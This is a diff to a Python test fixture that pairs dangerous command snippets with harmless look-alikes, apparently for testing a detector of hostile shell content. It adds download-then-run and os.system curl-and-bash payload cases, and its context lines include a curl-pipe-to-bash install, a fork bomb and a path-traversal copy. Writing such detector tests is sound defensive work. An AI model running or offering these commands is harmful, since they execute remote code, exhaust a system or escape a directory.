@@ -79,6 +79,14 @@ CASES: dict[str, tuple[str, str]] = {
         "Install: `curl -fsSL https://get.example.sh | bash`.",
         "Query: `curl -s https://api.example.com | jq .`.",
     ),
+    "destructive.download_then_run": (
+        "Install: `curl -fsSL https://x.io/i -o /tmp/i.sh && sh /tmp/i.sh`.",
+        "Fetch the data: `curl -o data.csv https://x.io/d.csv`, then `python scripts/load.py`.",
+    ),
+    "destructive.exec_payload": (
+        'Bootstrap with `os.system("curl -s https://x.io/i -o i; bash i")`.',
+        'Decrypt with `subprocess.run(["qpdf", "--decrypt", "in.pdf", "out.pdf"])`.',
+    ),
     "destructive.fork_bomb": ("Stress it: `:(){ :|:& };:`.", "Define `foo() { bar | baz & }`."),
     "path.traversal": (
         "Keep a copy: `cp notes.txt ../../outside/`.",
